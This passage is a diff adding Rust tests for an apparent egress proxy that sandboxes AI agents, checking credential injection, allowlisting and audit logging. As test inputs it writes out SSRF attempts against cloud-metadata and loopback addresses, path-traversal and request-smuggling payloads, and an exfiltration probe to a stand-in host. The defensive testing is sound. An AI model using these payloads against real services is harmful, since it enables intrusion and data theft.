@@ -12,12 +12,13 @@
 
 use std::path::{Path, PathBuf};
 use std::process::Command;
-
+use std::time::Duration;
 
 use aegis_tests::upstream::{self, Serve, Upstream};
 use aegis_tests::*;
 use serde_json::{Value, json};
 
+use crate::launch::{Lab, audit_events, run_for, sandbox_ready};
 
 
 const GMAIL_TOKEN: &str = "ya29.test-gmail-token-7f3a9c";
@@ -152,4 +153,790 @@ fn the_test_upstream_serves_every_fixture_directly() {
         .env("HOME", tmp.path()));
     assert_eq!(r.code, 0, "git clone: {}", r.stderr);
     assert_eq!(std::fs::read_to_string(dest.join("README.md")).unwrap(), "fetched through the AEGIS proxy\n");
+}
+
+/// Every name the tests use, pinned to the upstream in every launch: a name the proxy wrongly
+/// admitted would reach the test servers and show up in their log.
+const NAMES: &[&str] = &[
+    "gmail.googleapis.com",
+    "files.example.net",
+    "www.example.com",
+    "git.example.com",
+    "ws.example.com",
+    "plain.example.com",
+    "example.com",
+    "example.com.evil.com",
+    "evilexample.com",
+    "evil.test",
+    "en.wikipedia.org",
+    "upload.wikimedia.org",
+    "arxiv.org",
+    "export.arxiv.org",
+    "docs.python.org",
+];
+
+/// One proxy-mode launch: what the agent printed and exited with, the audit log's
+/// `proxy_request` records, and all its events.
+struct Launch {
+    run: Run,
+    log: PathBuf,
+    events: Vec<Value>,
+}
+
+impl Launch {
+    fn proxy_records(&self) -> Vec<&Value> {
+        self.events.iter().filter(|e| e["kind"] == "proxy_request").collect()
+    }
+
+    /// The audit log as text (to check that no secret reached it).
+    fn log_text(&self) -> String {
+        std::fs::read_to_string(&self.log).unwrap()
+    }
+}
+
+/// `aegis-exec` in proxy mode: every name of [`NAMES`] (and `extra_resolve`) pinned to
+/// the upstream, the test CA trusted upstream, `GMAIL_TOKEN` in aegis-exec's own environment
+/// only. `cmd` empty: the bundle's own command.
+fn launch(lab: &Lab, up: &Upstream, bundle: &Path, params: &[(&str, &Path)], env: &[(&str, &str)], extra_resolve: &[(&str, String)], cmd: &[&str]) -> Launch {
+    let log = lab.path(&format!("audit-{}.log", std::time::SystemTime::now().duration_since(std::time::UNIX_EPOCH).unwrap().as_nanos()));
+    let mut c = Command::new(bin("aegis-exec"));
+    c.env("AEGIS_STATE_DIR", &lab.state)
+        .env("PATH", "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin")
+        .env("GMAIL_TOKEN", GMAIL_TOKEN)
+        .arg("--trust-key")
+        .arg(&lab.public)
+        .arg("--audit-log")
+        .arg(&log)
+        .arg("--upstream-ca")
+        .arg(&up.pki.ca)
+        .args(up.resolve_args(NAMES));
+    for (name, ip) in extra_resolve {
+        c.arg("--resolve").arg(format!("{name}={ip}"));
+    }
+    for (k, v) in params {
+        c.arg("--param").arg(format!("{k}={}", v.display()));
+    }
+    for (k, v) in env {
+        c.arg("--env").arg(format!("{k}={v}"));
+    }
+    c.arg(bundle);
+    if !cmd.is_empty() {
+        c.arg("--").args(cmd);
+    }
+    let run = run_for(&mut c, Duration::from_secs(120));
+    let events = audit_events(&log);
+    Launch { run, log, events }
+}
+
+/// The test policy `gate.toml`, extended by a file that gives `[api.files]` its credential
+/// from a host file (only root can read it): the bundle and its parameters.
+fn gate_bundle(lab: &Lab) -> (PathBuf, Vec<(&'static str, PathBuf)>) {
+    let key = lab.path("files.key");
+    std::fs::write(&key, format!("{FILES_KEY}\n")).unwrap();
+    std::fs::set_permissions(&key, std::os::unix::fs::PermissionsExt::from_mode(0o600)).unwrap();
+    let pol = lab.path("gate-with-file-credential.toml");
+    std::fs::write(
+        &pol,
+        format!(
+            "version = 1\n[agent]\nextends = [{:?}]\n[api.files]\nhost = \"files.example.net\"\ncredential = {{ header = \"X-Api-Key\", from_file = {:?} }}\n",
+            fixtures().join("gate.toml").display().to_string(),
+            key.display().to_string()
+        ),
+    )
+    .unwrap();
+    let bundle = lab.build(&pol, "bundle-gate");
+    (bundle, vec![("FIXTURES", fixtures()), ("EXAMPLES", repo_root().join("examples/python"))])
+}
+
+/// Runs `client.py OPS` in the gate sandbox; returns one result per op and the launch.
+fn probe(lab: &Lab, up: &Upstream, extra_resolve: &[(&str, String)], ops: &Value) -> (Vec<Value>, Launch) {
+    let (bundle, params) = gate_bundle(lab);
+    let params: Vec<(&str, &Path)> = params.iter().map(|(k, v)| (*k, v.as_path())).collect();
+    let client = fixtures().join("client.py").display().to_string();
+    let l = launch(lab, up, &bundle, &params, &[], extra_resolve, &["/usr/bin/python3", &client, &ops.to_string()]);
+    assert_eq!(l.run.code, 0, "the probe agent failed: exit {}\n{}\n{}", l.run.code, l.run.stdout, l.run.stderr);
+    let out: Vec<Value> = serde_json::from_str(l.run.stdout.trim()).unwrap_or_else(|e| panic!("probe output {e}: {}\n{}", l.run.stdout, l.run.stderr));
+    assert_eq!(out.len(), ops.as_array().unwrap().len());
+    (out, l)
+}
+
+/// Proxy setup that every test needs; None (after printing why) when this host cannot.
+fn ready() -> bool {
+    sandbox_ready() && upstream::unavailable().is_none_or(|why| {
+        eprintln!("SKIP: {why}");
+        false
+    })
+}
+
+fn lower_host(r: &Value) -> String {
+    r["host"].as_str().unwrap_or("").trim_matches(['[', ']']).to_ascii_lowercase()
+}
+
+/// The audit record of a denial whose host is one of `hosts` (and whose path is `path`,
+/// when given).
+fn denial<'a>(recs: &[&'a Value], hosts: &[&str], path: Option<&str>) -> Option<&'a Value> {
+    recs.iter()
+        .find(|r| r["decision"] == "deny" && hosts.iter().any(|h| lower_host(r) == h.trim_matches(['[', ']']).to_ascii_lowercase()) && path.is_none_or(|p| r["path"] == p))
+        .copied()
+}
+
+fn header_values<'a>(req: &'a Value, name: &str) -> Vec<&'a str> {
+    req["headers"].as_array().unwrap().iter().filter(|h| h[0].as_str().unwrap().eq_ignore_ascii_case(name)).map(|h| h[1].as_str().unwrap()).collect()
+}
+
+fn status(v: &Value) -> i64 {
+    v["status"].as_i64().unwrap_or(-1)
+}
+
+/// Done when (1): `policies/inbox-manager.toml` runs the inbox agent
+/// (`examples/inbox-agent/agent.py`), which lists and labels messages on the fake Gmail and
+/// gets 403 on `messages/send`; the server saw the proxy's token on every request it got and
+/// never a send; the token is nowhere in the sandbox (environment of every process, files
+/// under /tmp, the state and app directories) nor in the audit log; and every request the
+/// agent made is a `proxy_request` record.
+#[test]
+fn inbox_manager_lists_and_labels_but_gets_403_on_send_with_the_token_only_in_the_proxy() {
+    if !ready() {
+        return;
+    }
+    let Some(up) = upstream("inbox", None) else { return };
+    let lab = Lab::new();
+    let app = repo_root().join("examples");
+    let state = lab.agent_dir("state");
+    let bundle = lab.build(&policy_path("inbox-manager.toml"), "bundle-inbox");
+    let agent = app.join("inbox-agent/agent.py").display().to_string();
+    let client = std::fs::read_to_string(fixtures().join("client.py")).unwrap();
+    let state_s = state.display().to_string();
+    let app_s = app.display().to_string();
+    // The agent runs first; then, in the same sandbox, a scan for the token.
+    let ops = json!([
+        {"op": "run", "argv": ["/usr/bin/python3", agent], "env": {"STATE": state_s}},
+        {"op": "secrets", "needle_hex": to_hex(GMAIL_TOKEN), "dirs": [state_s, app_s]},
+        {"op": "secrets", "needle_hex": to_hex("test-gmail-token"), "dirs": [state_s]},
+        {"op": "env"},
+    ]);
+    let l = launch(&lab, &up, &bundle, &[("APP", app.as_path()), ("STATE", state.as_path())], &[], &[], &["/usr/bin/python3", "-c", &client, &ops.to_string()]);
+    assert_eq!(l.run.code, 0, "exit {}\n{}\n{}", l.run.code, l.run.stdout, l.run.stderr);
+    let out: Vec<Value> = serde_json::from_str(l.run.stdout.trim()).unwrap_or_else(|e| panic!("{e}: {}\n{}", l.run.stdout, l.run.stderr));
+    assert_eq!(out[0]["rc"], 0, "the inbox agent failed: {}", out[0]);
+    let summary: Value = serde_json::from_str(out[0]["stdout"].as_str().unwrap().trim()).unwrap_or_else(|e| panic!("agent output {e}: {}", out[0]));
+    eprintln!("inbox agent: {summary}");
+
+    // What the agent saw.
+    assert_eq!(summary["listed"], json!(["m1", "m2", "m3"]), "{summary}");
+    assert_eq!(summary["fetched"], json!(["m1", "m2", "m3"]), "{summary}");
+    assert_eq!(summary["labelled"]["status"], 200, "{summary}");
+    let labels = summary["labelled"]["labelIds"].as_array().unwrap();
+    assert!(labels.contains(&json!("Label_1")) && !labels.contains(&json!("UNREAD")), "{summary}");
+    assert_eq!(summary["send"]["status"], 403, "send must be refused by the proxy: {summary}");
+    assert!(summary["send"]["reason"].as_str().is_some_and(|r| !r.is_empty()), "403 carries X-Aegis-Reason: {summary}");
+    assert_eq!(summary["asked_send"]["verdict"], "DENY", "the decision endpoint agrees: {summary}");
+    assert!(std::fs::read_to_string(state.join("inbox-state.json")).unwrap().contains("m1"));
+
+    // What the server saw: the proxy's token on every request, and no send.
+    let reqs = up.requests();
+    let gmail: Vec<&Value> = reqs.iter().filter(|r| r["host"] == "gmail.googleapis.com").collect();
+    let actions: Vec<&str> = gmail.iter().map(|r| r["action"].as_str().unwrap()).collect();
+    assert_eq!(actions, ["list", "get", "get", "get", "modify"], "{reqs:?}");
+    for r in &gmail {
+        assert_eq!(header_values(r, "Authorization"), [format!("Bearer {GMAIL_TOKEN}")], "the proxy injects the token exactly once: {r}");
+        assert_eq!(r["sni"], "gmail.googleapis.com", "{r}");
+    }
+    assert!(reqs.iter().all(|r| r["action"] != "send"), "a send reached the server: {reqs:?}");
+
+    // The token is nowhere inside the sandbox.
+    for scan in &out[1..3] {
+        assert_eq!(scan["found"], json!([]), "the token leaked into the sandbox: {scan}");
+        let n = &scan["scanned"];
+        assert!(n["env"].as_u64().unwrap() > 0 && n["proc"].as_u64().unwrap() > 0, "the scan looked at nothing: {scan}");
+    }
+    assert!(out[1]["scanned"]["files"].as_u64().unwrap() > 0, "{}", out[1]);
+    let env = &out[3]["env"];
+    assert_eq!(env["HTTPS_PROXY"], "http://127.0.0.1:3128", "{env}");
+    assert!(env.get("GMAIL_TOKEN").is_none_or(|v| !v.as_str().unwrap().contains(GMAIL_TOKEN)), "{env}");
+
+    // Every request is in the audit log, and the token is not.
+    let recs = l.proxy_records();
+    for r in &gmail {
+        let found = recs.iter().any(|a| a["decision"] == "allow" && a["host"] == "gmail.googleapis.com" && a["method"] == r["method"] && a["path"] == r["path"] && a["mode"] == "inspect");
+        assert!(found, "no allow record for {} {}: {recs:?}", r["method"], r["path"]);
+    }
+    let send = denial(&recs, &["gmail.googleapis.com"], Some("/gmail/v1/users/me/messages/send")).unwrap_or_else(|| panic!("no deny record for send: {recs:?}"));
+    assert_eq!(send["method"], "POST", "{send}");
+    assert!(send["rule"].as_str().is_some_and(|r| r.contains("send")), "the deny rule is named: {send}");
+    assert!(recs.iter().any(|a| a["mode"] == "decision"), "the question is audited: {recs:?}");
+    assert!(!l.log_text().contains(GMAIL_TOKEN), "the token reached the audit log");
+    assert!(!l.run.stderr.contains(GMAIL_TOKEN) && !l.run.stdout.contains(GMAIL_TOKEN), "the token reached aegis-exec's output");
+}
+
+fn policy_path(name: &str) -> PathBuf {
+    repo_root().join("policies").join(name)
+}
+
+/// Done when (2): `policies/research-agent.toml` runs the research agent with its own
+/// command (`python3 -m research_agent`), which reads every allowed site and nothing else:
+/// the disallowed sites are refused (and audited) although they resolve to the same test
+/// server, and the server only ever saw allowed names.
+#[test]
+fn research_agent_reads_allowed_sites_and_nothing_else() {
+    if !ready() {
+        return;
+    }
+    let Some(up) = upstream("research", None) else { return };
+    let lab = Lab::new();
+    let out = lab.agent_dir("out");
+    // The shipped policy grants no directory for the agent's code besides ${OUTPUT}, so the
+    // package is copied there (owned by root: the agent cannot change it) and found through
+    // PYTHONPATH.
+    let code = out.join("code/research_agent");
+    std::fs::create_dir_all(&code).unwrap();
+    for f in ["__init__.py", "__main__.py"] {
+        std::fs::copy(repo_root().join("examples/research-agent/research_agent").join(f), code.join(f)).unwrap();
+    }
+    let bundle = lab.build(&policy_path("research-agent.toml"), "bundle-research");
+    let out_s = out.display().to_string();
+    let pythonpath = out.join("code").display().to_string();
+    let probes = "https://example.com/ https://evil.test/exfiltrate?notes=1 https://evilexample.com/ https://example.com.evil.com/ https://www.example.com/";
+    let l = launch(&lab, &up, &bundle, &[("OUTPUT", out.as_path())], &[("OUTPUT", &out_s), ("PYTHONPATH", &pythonpath), ("RESEARCH_PROBES", probes)], &[], &[]);
+    assert_eq!(l.run.code, 0, "exit {}\n{}\n{}", l.run.code, l.run.stdout, l.run.stderr);
+    let summary: Value = serde_json::from_str(l.run.stdout.trim()).unwrap_or_else(|e| panic!("{e}: {}\n{}", l.run.stdout, l.run.stderr));
+    eprintln!("research agent: {summary}");
+    let results = summary["results"].as_object().unwrap();
+    let allowed = ["en.wikipedia.org", "upload.wikimedia.org", "arxiv.org", "docs.python.org"];
+    for (url, r) in results {
+        let host = url.split('/').nth(2).unwrap();
+        if allowed.contains(&host) {
+            assert_eq!(r["status"], 200, "{url}: {r}");
+            assert!(r["title"].as_str().unwrap().starts_with(host), "{url}: {r}");
+        } else {
+            assert!(r["status"] != 200, "{url} must be refused: {r}");
+        }
+    }
+    assert_eq!(results.len(), 9);
+    let notes = std::fs::read_to_string(out.join("notes.md")).unwrap();
+    assert_eq!(notes.lines().filter(|l| l.starts_with("- ")).count(), 4, "{notes}");
+
+    let reqs = up.requests();
+    let mut seen: Vec<&str> = reqs.iter().map(|r| r["host"].as_str().unwrap()).collect();
+    seen.sort();
+    seen.dedup();
+    let mut want = allowed.to_vec();
+    want.sort();
+    assert_eq!(seen, want, "the server saw exactly the allowed sites: {reqs:?}");
+    assert!(reqs.iter().all(|r| r["sni"] == r["host"]), "{reqs:?}");
+
+    let recs = l.proxy_records();
+    for h in allowed {
+        assert!(recs.iter().any(|r| r["decision"] == "allow" && r["host"] == h && r["mode"] == "tunnel"), "no tunnel record for {h}: {recs:?}");
+    }
+    for h in ["example.com", "evil.test", "evilexample.com", "example.com.evil.com", "www.example.com"] {
+        assert!(denial(&recs, &[h], None).is_some(), "no deny record for {h}: {recs:?}");
+    }
+}
+
+/// Attacks on destinations, each refused, audited, and never seen by the server: a direct
+/// connection that bypasses the proxy; CONNECT to metadata and loopback addresses in every
+/// spelling; allowed names pinned to loopback, metadata and the host's own address; the
+/// wildcard `*.example.com` against the apex, `example.com.evil.com` and `evilexample.com`;
+/// an allowed name on a port the policy does not grant; SNI other than the CONNECT host (on a
+/// tunnel and on an inspected host) or no SNI; plain HTTP to hosts that are not allowed.
+/// Controls on the same sandbox (an allowed CONNECT, plain HTTP and TLS) work, so the
+/// denials are the proxy's doing.
+#[test]
+fn destination_attacks_are_denied_audited_and_never_reach_a_server() {
+    if !ready() {
+        return;
+    }
+    let Some(up) = upstream("dest", None) else { return };
+    let lab = Lab::new();
+    let pinned = [
+        ("meta.example.com", "169.254.169.254".to_string()),
+        ("loop.example.com", "127.0.0.1".to_string()),
+        ("self.example.com", up.host_ip.to_string()),
+    ];
+    let ip = up.ip.to_string();
+    // (CONNECT target, host spellings an audit record may use for it)
+    let connects: Vec<(&str, Vec<&str>)> = vec![
+        ("169.254.169.254:443", vec!["169.254.169.254"]),
+        ("[::ffff:169.254.169.254]:443", vec!["::ffff:169.254.169.254", "169.254.169.254", "::ffff:a9fe:a9fe"]),
+        ("127.1:443", vec!["127.1", "127.0.0.1"]),
+        ("0x7f000001:443", vec!["0x7f000001", "127.0.0.1"]),
+        ("2130706433:443", vec!["2130706433", "127.0.0.1"]),
+        ("[::1]:443", vec!["::1"]),
+        ("127.0.0.1:3128", vec!["127.0.0.1"]),
+        ("meta.example.com:443", vec!["meta.example.com"]),
+        ("loop.example.com:443", vec!["loop.example.com"]),
+        ("self.example.com:443", vec!["self.example.com"]),
+        ("example.com:443", vec!["example.com"]),
+        ("example.com.evil.com:443", vec!["example.com.evil.com"]),
+        ("evilexample.com:443", vec!["evilexample.com"]),
+        ("www.example.com:8443", vec!["www.example.com"]),
+    ];
+    let mut ops = vec![json!({"op": "direct", "host": ip, "port": 443}), json!({"op": "connect", "target": format!("{ip}:443")})];
+    for (t, _) in &connects {
+        ops.push(json!({"op": "connect", "target": t}));
+    }
+    let first_tls = ops.len();
+    let g = "gmail.googleapis.com";
+    ops.extend([
+        json!({"op": "tls", "target": "www.example.com:443", "sni": "evil.test", "requests": [get("evil.test", "/sni-mismatch", "")]}),
+        json!({"op": "tls", "target": "www.example.com:443", "sni": null, "requests": [get("www.example.com", "/no-sni", "")]}),
+        json!({"op": "tls", "target": format!("{g}:443"), "sni": "files.example.net", "requests": [get("files.example.net", "/headers", "")]}),
+        json!({"op": "urllib", "url": "http://evil.test/plain"}),
+        json!({"op": "urllib", "url": "http://gmail.googleapis.com/gmail/v1/users/me/messages"}),
+        // Controls.
+        json!({"op": "tls", "target": "www.example.com:443", "sni": "www.example.com", "requests": [get("www.example.com", "/control", "")]}),
+        json!({"op": "urllib", "url": "http://plain.example.com/control"}),
+    ]);
+    let (out, l) = probe(&lab, &up, &pinned, &Value::Array(ops));
+    let recs = l.proxy_records();
+    let mut failures = Vec::new();
+
+    // Bypass: no route out of the sandbox but the proxy.
+    if out[0].get("ok").is_some() {
+        failures.push(format!("direct connect to {ip}:443 succeeded: {}", out[0]));
+    }
+    if status(&out[1]) == 200 {
+        failures.push(format!("CONNECT to the upstream's IP (no CIDR grant) allowed: {}", out[1]));
+    }
+    for (i, (target, spellings)) in connects.iter().enumerate() {
+        let r = &out[2 + i];
+        if status(r) != 403 {
+            failures.push(format!("CONNECT {target}: expected 403, got {r}"));
+        } else if r["reason"].as_str().is_none_or(str::is_empty) {
+            failures.push(format!("CONNECT {target}: 403 without X-Aegis-Reason"));
+        }
+        if denial(&recs, spellings, None).is_none() {
+            failures.push(format!("CONNECT {target}: no deny record with host in {spellings:?}"));
+        }
+    }
+    let t = first_tls;
+    for (k, what, hosts) in [(0, "SNI evil.test on a www.example.com tunnel", vec!["www.example.com", "evil.test"]), (1, "no SNI", vec!["www.example.com"]), (2, "SNI files.example.net on the inspected gmail host", vec![g, "files.example.net"])] {
+        let r = &out[t + k];
+        let ok = r["responses"].as_array().is_some_and(|v| v.iter().any(|x| status(x) == 200));
+        if ok {
+            failures.push(format!("{what}: a request got through: {r}"));
+        }
+        if denial(&recs, &hosts, None).is_none() {
+            failures.push(format!("{what}: no deny record for {hosts:?}"));
+        }
+    }
+    if status(&out[t + 3]) != 403 {
+        failures.push(format!("plain http://evil.test: expected 403, got {}", out[t + 3]));
+    }
+    if denial(&recs, &["evil.test"], None).is_none() {
+        failures.push("plain http://evil.test: no deny record".into());
+    }
+    if status(&out[t + 4]) == 200 {
+        failures.push(format!("plain http to the gmail API on port 80: {}", out[t + 4]));
+    }
+    // Controls.
+    assert_eq!(out[t + 5]["responses"][0]["status"], 200, "control: an allowed tunnel works: {}", out[t + 5]);
+    assert_eq!(status(&out[t + 6]), 200, "control: allowed plain http works: {}", out[t + 6]);
+
+    let reqs = up.requests();
+    let paths: Vec<&str> = reqs.iter().map(|r| r["path"].as_str().unwrap()).collect();
+    if paths != ["/control", "/control"] {
+        failures.push(format!("the server saw more than the two controls: {reqs:?}"));
+    }
+    if let Some(r) = reqs.iter().find(|r| r["listen_port"] == 80 && r["host"] == "plain.example.com") {
+        assert!(header_values(r, "Authorization").is_empty());
+    }
+    assert!(failures.is_empty(), "{} attack(s) not denied and audited:\n{}\naudit records: {recs:#?}", failures.len(), failures.join("\n"));
+}
+
+/// One raw request on its own inspected connection to the fake Gmail.
+fn gmail_tls(requests: &[String]) -> Value {
+    json!({"op": "tls", "target": "gmail.googleapis.com:443", "sni": "gmail.googleapis.com", "requests": requests, "read_after": 1.0})
+}
+
+/// Attacks on the API gate, each on its own connection to the inspected fake Gmail, with the
+/// rules of inbox-manager: path tricks (`..`, `%2e%2e`, `%2F`, `;x`, `//`, backslash, extra
+/// segments, an encoded `send`, absolute form, a Host naming another API), request
+/// smuggling (CL+TE, TE+CL, obfuscated TE, duplicate Content-Length, obs-fold) with a send
+/// hidden in the body, the HTTP/2 preface and an h2c upgrade, and a denied second request on
+/// a kept-alive (and on a pipelined) connection. Each is answered 4xx (or the connection is
+/// closed), audited as a denial, and never reaches the server, which is lenient enough to
+/// have turned most of them into a send. `X-HTTP-Method-Override: POST` on an allowed GET is
+/// forwarded without the header. Credentials stay with their API: the server for one API
+/// never sees the other's secret, and a token the agent makes up is replaced.
+#[test]
+fn api_gate_attacks_are_denied_audited_and_never_reach_the_server() {
+    if !ready() {
+        return;
+    }
+    let Some(up) = upstream("gate", None) else { return };
+    let lab = Lab::new();
+    let g = "gmail.googleapis.com";
+    let m = "/gmail/v1/users/me/messages";
+    let tricks: Vec<(&str, String)> = vec![
+        ("dotdot", post(g, &format!("{m}/x/../send"), "", "{}")),
+        ("%2e%2e", post(g, &format!("{m}/x/%2e%2e/send"), "", "{}")),
+        ("%2E%2E upper", post(g, &format!("{m}/x/%2E%2E/send"), "", "{}")),
+        ("%2F", post(g, &format!("{m}/..%2Fmessages%2Fsend/modify"), "", "{}")),
+        ("%2f in one segment", get(g, &format!("{m}/..%2fdrafts%2fsend"), "X-HTTP-Method-Override: POST\r\n")),
+        (";x", post(g, &format!("{m}/send;x"), "", "{}")),
+        (";x before modify", post(g, &format!("{m}/send;x/modify"), "", "{}")),
+        ("%3B", post(g, &format!("{m}/send%3Bx/modify"), "", "{}")),
+        ("//", post(g, &format!("{m}//send"), "", "{}")),
+        ("leading //", post(g, &format!("/{m}/send"), "", "{}")),
+        ("trailing /", post(g, &format!("{m}/m1/modify/"), "", "{}")),
+        ("backslash", post(g, &format!("{m}/x\\..\\send"), "", "{}")),
+        ("%5C", post(g, &format!("{m}/x%5C..%5Csend/modify"), "", "{}")),
+        ("extra segment", post(g, &format!("{m}/m1/modify/send"), "", "{}")),
+        ("extra segment GET", get(g, &format!("{m}/m1/send/x"), "")),
+        ("%73end", post(g, &format!("{m}/%73end"), "", "{}")),
+        ("absolute form", post(g, &format!("https://{g}{m}/send"), "", "{}")),
+        ("send with query", post(g, &format!("{m}/send?x=/m1/modify"), "", "{}")),
+        ("Host of another API", get("files.example.net", "/headers", "")),
+        ("Host with another port", get(&format!("{g}:8443"), m, "")),
+        ("drafts/send", post(g, "/gmail/v1/users/me/drafts/send", "", "{}")),
+        ("upload", post(g, "/upload/gmail/v1/users/me/messages/send", "", "{}")),
+    ];
+    let smuggled = format!("POST {m}/send HTTP/1.1\r\nHost: {g}\r\nContent-Type: application/json\r\nContent-Length: 2\r\n\r\n{{}}");
+    let bm = format!("{m}/batchModify");
+    let chunked_smuggle = format!("0\r\n\r\n{smuggled}");
+    let smuggling: Vec<(&str, String)> = vec![
+        ("CL+TE", format!("POST {bm} HTTP/1.1\r\nHost: {g}\r\nContent-Length: {}\r\nTransfer-Encoding: chunked\r\n\r\n{chunked_smuggle}", chunked_smuggle.len())),
+        ("TE+CL", format!("POST {bm} HTTP/1.1\r\nHost: {g}\r\nTransfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n{:x}\r\n{smuggled}\r\n0\r\n\r\n", smuggled.len())),
+        ("TE.TE two headers", format!("POST {bm} HTTP/1.1\r\nHost: {g}\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: x\r\n\r\n{chunked_smuggle}")),
+        ("TE xchunked + CL", format!("POST {bm} HTTP/1.1\r\nHost: {g}\r\nContent-Length: 2\r\nTransfer-Encoding: xchunked\r\n\r\n{{}}{smuggled}")),
+        ("TE space before colon", format!("POST {bm} HTTP/1.1\r\nHost: {g}\r\nContent-Length: {}\r\nTransfer-Encoding : chunked\r\n\r\n{chunked_smuggle}", chunked_smuggle.len())),
+        ("TE chunked, identity", format!("POST {bm} HTTP/1.1\r\nHost: {g}\r\nTransfer-Encoding: chunked, identity\r\n\r\n{chunked_smuggle}")),
+        ("TE obs-fold", format!("POST {bm} HTTP/1.1\r\nHost: {g}\r\nContent-Length: 2\r\nTransfer-Encoding:\r\n chunked\r\n\r\n{{}}{smuggled}")),
+        ("two Content-Lengths", format!("POST {bm} HTTP/1.1\r\nHost: {g}\r\nContent-Length: 2\r\nContent-Length: {}\r\n\r\n{{}}{smuggled}", 2 + smuggled.len())),
+        ("HTTP/2 preface", "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_string()),
+        ("h2c upgrade", get(g, m, "Connection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n")),
+    ];
+    // Each attack's request target carries a marker (`trick=NN` in the query, which rules do
+    // not match), so the server log shows whether any part of it got through.
+    let n_tricks = tricks.len();
+    let attacks: Vec<(&str, String)> = tricks.into_iter().chain(smuggling).enumerate().map(|(i, (w, r))| (w, mark(&r, i))).collect();
+    let mut ops: Vec<Value> = attacks.iter().map(|(_, r)| gmail_tls(std::slice::from_ref(r))).collect();
+    let base = ops.len();
+    let auth_fake = "Authorization: Bearer agent-made-this-up\r\n";
+    ops.extend([
+        // Keep-alive: allowed, then denied on the same connection.
+        gmail_tls(&[get(g, m, ""), post(g, &format!("{m}/send"), "", "{}")]),
+        // Pipelined: both in one write.
+        json!({"op": "tls", "target": format!("{g}:443"), "sni": g, "pipeline": true, "requests": [get(g, &format!("{m}/m2"), ""), post(g, &format!("{m}/send"), "", "{}")]}),
+        // Method override on allowed GETs: forwarded as GETs without the header.
+        gmail_tls(&[get(g, &format!("{m}/m3"), "X-HTTP-Method-Override: POST\r\nX-HTTP-Method: POST\r\nX-Method-Override: POST\r\n")]),
+        gmail_tls(&[get(g, &format!("{m}/send"), "X-HTTP-Method-Override: POST\r\n")]),
+        // The agent's own Authorization is replaced by the proxy's.
+        gmail_tls(&[get(g, "/gmail/v1/users/me/labels", auth_fake)]),
+        // The second API gets its own key, never Gmail's token.
+        json!({"op": "tls", "target": "files.example.net:443", "sni": "files.example.net", "requests": [get("files.example.net", "/headers", auth_fake)]}),
+        // A tunnel host gets no credential at all.
+        json!({"op": "tls", "target": "www.example.com:443", "sni": "www.example.com", "requests": [get("www.example.com", "/headers", "")]}),
+        // ALPN: h2 is never negotiated.
+        json!({"op": "tls", "target": format!("{g}:443"), "sni": g, "alpn": ["h2", "http/1.1"], "requests": [get(g, "/gmail/v1/users/me/labels", "")]}),
+    ]);
+    let (out, l) = probe(&lab, &up, &[], &Value::Array(ops));
+    let recs = l.proxy_records();
+    let reqs = up.requests();
+    let mut failures = Vec::new();
+    let refused = |r: &Value| {
+        let rs = r["responses"].as_array().cloned().unwrap_or_default();
+        // 4xx, or 501 for a transfer coding the proxy does not implement (RFC 9112 §6.1).
+        rs.iter().all(|x| (400..500).contains(&status(x)) || status(x) == 501) && r["after"].as_str().is_none_or(|a| !a.contains("HTTP/1.1 200"))
+    };
+    let gmail_denials = recs.iter().filter(|r| r["decision"] == "deny" && lower_host(r) == g).count();
+    for (i, (what, _)) in attacks.iter().enumerate() {
+        let r = &out[i];
+        if !refused(r) {
+            failures.push(format!("{what}: not refused: {r}"));
+        }
+        let marker = format!("trick={i:02}");
+        if let Some(seen) = reqs.iter().find(|q| q["target"].as_str().unwrap().contains(&marker)) {
+            failures.push(format!("{what}: reached the server: {seen}"));
+        }
+        if i < n_tricks && r["responses"].as_array().is_some_and(|v| v.iter().any(|x| status(x) == 403 && x["reason"].as_str().is_none_or(str::is_empty))) {
+            failures.push(format!("{what}: 403 without X-Aegis-Reason: {r}"));
+        }
+    }
+    if gmail_denials < attacks.len() {
+        failures.push(format!("{} attacks on the gmail host but only {gmail_denials} deny records", attacks.len()));
+    }
+    // The audit record names the canonical path the proxy evaluated.
+    if !recs.iter().any(|r| r["decision"] == "deny" && r["method"] == "POST" && r["path"] == "/gmail/v1/users/me/messages/send" && r["rule"].as_str().is_some_and(|x| x.contains("send"))) {
+        failures.push("no deny record names the canonical POST /gmail/v1/users/me/messages/send and its rule".into());
+    }
+    if let Some(s) = reqs.iter().find(|r| r["action"] == "send" || r["action"] == "upload") {
+        failures.push(format!("a send reached the server: {s}"));
+    }
+
+    // Keep-alive and pipelining: first allowed, second refused, server saw only the first.
+    for (k, what) in [(0, "keep-alive"), (1, "pipelined")] {
+        let r = &out[base + k];
+        let st: Vec<i64> = r["responses"].as_array().unwrap().iter().map(status).collect();
+        if st.first() != Some(&200) || st.get(1).is_some_and(|s| !(400..500).contains(s)) {
+            failures.push(format!("{what}: expected [200, 403], got {r}"));
+        }
+    }
+    if denial(&recs, &[g], Some("/gmail/v1/users/me/messages/send")).is_none() {
+        failures.push("no deny record for POST .../messages/send".into());
+    }
+    // Method override.
+    for (k, target) in [(2, format!("{m}/m3")), (3, format!("{m}/send"))] {
+        let Some(seen) = reqs.iter().find(|q| q["target"] == target.as_str()) else {
+            failures.push(format!("allowed GET {target} with an override header did not reach the server: {}", out[base + k]));
+            continue;
+        };
+        for h in ["X-HTTP-Method-Override", "X-HTTP-Method", "X-Method-Override"] {
+            if !header_values(seen, h).is_empty() {
+                failures.push(format!("{h} reached the server: {seen}"));
+            }
+        }
+        if seen["effective_method"] != "GET" {
+            failures.push(format!("the server performed {} for GET {target}", seen["effective_method"]));
+        }
+    }
+    // Credentials.
+    match reqs.iter().find(|q| q["host"] == g && q["path"] == "/gmail/v1/users/me/labels") {
+        Some(seen) => {
+            if header_values(seen, "Authorization") != [format!("Bearer {GMAIL_TOKEN}")] {
+                failures.push(format!("the agent's Authorization was not replaced by the proxy's: {seen}"));
+            }
+        }
+        None => failures.push(format!("GET labels did not reach the server: {}", out[base + 4])),
+    }
+    for q in &reqs {
+        let auth = header_values(q, "Authorization");
+        let key = header_values(q, "X-Api-Key");
+        let ok = match q["host"].as_str().unwrap() {
+            h if h == g => key.is_empty(),
+            "files.example.net" => key == [FILES_KEY] && auth.iter().all(|a| !a.contains(GMAIL_TOKEN)),
